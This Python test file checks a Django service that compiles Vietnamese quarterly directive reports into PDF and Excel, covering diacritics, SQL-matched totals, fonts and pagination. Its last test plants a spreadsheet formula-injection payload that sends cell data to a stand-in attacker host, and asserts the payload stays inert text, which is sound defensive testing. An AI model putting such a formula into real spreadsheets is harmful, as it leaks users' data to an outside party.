"""The compiled report of a seed directive: the PDF reads right in Vietnamese and its figures
equal counts computed independently, in SQL, from the database."""

import datetime
import subprocess
import unicodedata
from collections import Counter

import pdfplumber
import pytest
import time_machine
from django.test import override_settings

from accounts.models import Role
from agencies.models import Agency
from directives.models import Assignment
from directives.status import status_category_expression
from reports.models import CompiledReport
from reports.services import compiled_report_build, report_submission_save, report_submission_submit
from tests.factories import UserFactory

from .conftest import Q3_CUTOFF

BUILD_DAY = datetime.date(2023, 1, 10)  # long after the cut-off


def independent_counts(directive, cutoff, **filters) -> Counter:
    rows = (
        Assignment.objects.filter(task__directive=directive, assigned_on__lte=cutoff, **filters)
        .exclude(withdrawn_on__lte=cutoff)
        .annotate(status=status_category_expression(cutoff))
        .values_list("status", flat=True)
    )
    return Counter(rows)


NARRATIVE = "Đã hoàn thành rà soát quy hoạch sử dụng đất; tiếp tục hướng dẫn doanh nghiệp"


@pytest.fixture(scope="module")
def built(seeded, django_db_blocker, tmp_path_factory):
    """The draft of quý III/2022 of Kế hoạch 46/KH-UBND, built once; the PDF kept on disk.

    Sở Tài chính has sent its report, its narrative stored decomposed (NFD).
    """
    out = tmp_path_factory.mktemp("compiled")
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=out / "media"):
        officer = UserFactory(agency=Agency.objects.get(name="Sở Tài chính"), roles=[Role.OFFICER])
        nfd = unicodedata.normalize("NFD", NARRATIVE)
        with time_machine.travel(datetime.datetime(2022, 9, 12, 9, tzinfo=datetime.UTC), tick=False):
            submission = report_submission_save(directive=seeded, period_code="2022-Q3", narrative=nfd, actor=officer)
            report_submission_submit(submission=submission, actor=officer)
        report = compiled_report_build(actor=None, directive=seeded, period_code="2022-Q3", today=BUILD_DAY)
        pdf_path = out / "report.pdf"
        with report.pdf.open("rb") as source:
            pdf_path.write_bytes(source.read())
        text = subprocess.run(
            ["pdftotext", "-layout", str(pdf_path), "-"], capture_output=True, check=True, text=True
        ).stdout
    return {"report": report, "pdf": pdf_path, "text": text, "flat": " ".join(text.split())}


def test_pdf_has_motto_issuer_period_and_title(built):
    flat = built["flat"]
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in flat
    assert "Độc lập - Tự do - Hạnh phúc" in flat
    assert "SỞ KẾ HOẠCH VÀ ĐẦU TƯ" in flat
    assert "Kết quả thực hiện Kế hoạch 46/KH-UBND quý III năm 2022" in flat
    assert "từ ngày 15/06/2022 đến ngày 14/09/2022" in flat
    assert "Lạng Sơn, ngày" in flat and "Nơi nhận:" in flat


def test_pdf_text_is_composed_unicode_with_every_diacritic(built):
    text = built["text"]
    assert unicodedata.is_normalized("NFC", text)
    for word in [
        "Ủy ban nhân dân tỉnh Lạng Sơn",
        "Đang thực hiện trong hạn",
        "Quá hạn chưa hoàn thành",
        "Thường xuyên",
    ]:
        assert word in built["flat"]


@pytest.mark.django_db
def test_totals_equal_counts_computed_in_sql(built, seeded):
    # given the statuses as of the cut-off, counted by the database
    counts = independent_counts(seeded, Q3_CUTOFF)
    assert counts["dung_han"] >= 4 and counts["hoan_thanh_qua_han"] == 1 and counts["qua_han"] >= 1
    # then each row of the totals table carries the same number
    flat = built["flat"]
    for label, key in [
        ("Đã hoàn thành đúng hạn", "dung_han"),
        ("Đã hoàn thành quá hạn", "hoan_thanh_qua_han"),
        ("Đang thực hiện trong hạn", "trong_han"),
        ("Quá hạn chưa hoàn thành", "qua_han"),
    ]:
        assert f"{label} {counts[key]} " in flat, label
    assert f"Tổng số {sum(counts.values())} 100,0%" in flat
    assert built["report"].figures["totals"]["total"] == sum(counts.values())


@pytest.mark.django_db
def test_agency_row_with_diacritics_equals_its_counts(built, seeded):
    # given an agency whose name carries diacritics
    agency = Agency.objects.get(name="Sở Tài chính")
    counts = independent_counts(seeded, Q3_CUTOFF, agency=agency)
    # then its row reads: assigned, on time, late, in progress, overdue, ongoing, report
    expected = " ".join(
        str(n)
        for n in [
            sum(counts.values()),
            counts["dung_han"],
            counts["hoan_thanh_qua_han"],
            counts["trong_han"],
            counts["qua_han"],
            counts["khong_thoi_han"],
        ]
    )
    assert f"Sở Tài chính {expected} Đúng hạn" in built["flat"]


@pytest.mark.django_db
def test_overdue_tasks_list_agency_and_days_late(built, seeded):
    # given the overdue assignments as the database sees them on the cut-off
    overdue = (
        Assignment.objects.filter(task__directive=seeded, assigned_on__lte=Q3_CUTOFF)
        .exclude(withdrawn_on__lte=Q3_CUTOFF)
        .annotate(status=status_category_expression(Q3_CUTOFF))
        .filter(status="qua_han")
        .select_related("agency", "task")
    )
    expected = sorted(((Q3_CUTOFF - a.effective_due_on).days, a.task.ref, a.agency.name) for a in overdue)
    listed = sorted((row["days_late"], row["ref"], row["agency"]) for row in built["report"].figures["overdue"])
    # then the report lists the same ones, with the days late (14 days past 31/08/2022)
    assert listed == expected and expected[0][0] == 14
    assert f"{expected[0][1]} " in built["flat"] and "31/08/2022 14" in built["flat"]


def test_fonts_are_embedded_liberation_serif(built):
    output = subprocess.run(["pdffonts", str(built["pdf"])], capture_output=True, check=True, text=True).stdout
    rows = output.splitlines()[2:]
    assert rows, output
    assert all(row.split()[-5] == "yes" for row in rows), output  # the "emb" column
    assert any("Liberation-Serif" in row or "TimesNewRoman" in row for row in rows), output


def test_page_numbers_start_on_page_two(built):
    with pdfplumber.open(built["pdf"]) as pdf:
        assert len(pdf.pages) >= 2

        def numbers_in_top_margin(page):
            text = page.crop((0, 0, page.width, 20 / 25.4 * 72)).extract_text() or ""
            return [line.strip() for line in text.splitlines() if line.strip().isdigit()]

        assert numbers_in_top_margin(pdf.pages[0]) == []
        assert numbers_in_top_margin(pdf.pages[1]) == ["2"]
        width_mm = pdf.pages[0].width / 72 * 25.4
        assert round(width_mm) == 210  # A4


def test_agency_table_header_repeats_on_the_next_page(built):
    pages = built["text"].split("\f")
    assert "Cơ quan, đơn vị" in pages[0] and "Cơ quan, đơn vị" in pages[1]


def test_first_page_renders_to_a_non_blank_png(built, tmp_path):
    from PIL import Image

    subprocess.run(
        ["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(built["pdf"]), str(tmp_path / "p")], check=True
    )
    image = Image.open(next(tmp_path.glob("p*.png"))).convert("L")
    dark = sum(image.histogram()[:128])
    assert dark > 0.005 * image.width * image.height


@pytest.mark.django_db
def test_rebuilding_later_gives_the_same_figures(built, seeded):
    # given a draft built after the cut-off
    first = built["report"]
    figures = first.figures
    # when work is finished after the cut-off and the report is built again a year later
    Assignment.objects.filter(
        task__directive=seeded, due_on=datetime.date(2022, 6, 30), completed_on__isnull=True
    ).update(lifecycle="hoan_thanh", completed_on=datetime.date(2022, 11, 1))
    again = compiled_report_build(
        actor=None, directive=seeded, period_code="2022-Q3", today=BUILD_DAY.replace(year=2024)
    )
    # then the figures are those of the cut-off
    assert again.pk == first.pk
    assert again.figures == figures
    assert CompiledReport.objects.filter(directive=seeded, period="2022-Q3").count() == 1


@pytest.mark.django_db
def test_empty_period_says_there_is_nothing_to_report(seeded, tmp_path):
    # given a quarter that ended before the plan was issued (01/3/2022)
    report = compiled_report_build(actor=None, directive=seeded, period_code="2021-Q4", today=BUILD_DAY)
    # then the report exists and says so
    with report.pdf.open("rb") as source:
        (tmp_path / "empty.pdf").write_bytes(source.read())
    text = " ".join(
        subprocess.run(["pdftotext", str(tmp_path / "empty.pdf"), "-"], capture_output=True, text=True).stdout.split()
    )
    assert report.figures["empty"] is True
    assert "không có nhiệm vụ nào đang được giao" in text
    assert "quý IV năm 2021" in text


def test_nfd_text_in_the_database_prints_composed(built):
    # given an agency narrative stored decomposed (NFD) (see `built`)
    # then the PDF carries the composed letters
    assert NARRATIVE in built["flat"]
    assert unicodedata.normalize("NFD", NARRATIVE) not in built["text"]


def test_the_compiled_excel_keeps_a_typed_formula_as_text_and_dates_as_dates(built):
    """Issue 12.2 and 12.15: an agency's narrative written as a formula stays text; the period's
    days are real dates shown dd/mm/yyyy; every sheet has a frozen, filtered header."""
    import copy
    import io

    from openpyxl import load_workbook

    from reports.rendering import render_xlsx

    report = built["report"]
    figures = copy.deepcopy(report.figures)
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'
    figures["narratives"][0]["text"] = formula
    book = load_workbook(io.BytesIO(render_xlsx(report, figures)))
    narratives = book["Báo cáo của đơn vị"]
    cell = next(c for c in narratives["C"] if c.value == formula)
    assert cell.data_type == "s"
    sent = narratives["B2"]
    assert isinstance(sent.value, datetime.datetime) and sent.number_format == "DD/MM/YYYY"
    for sheet in book.worksheets:
        assert sheet.freeze_panes and sheet.auto_filter.ref
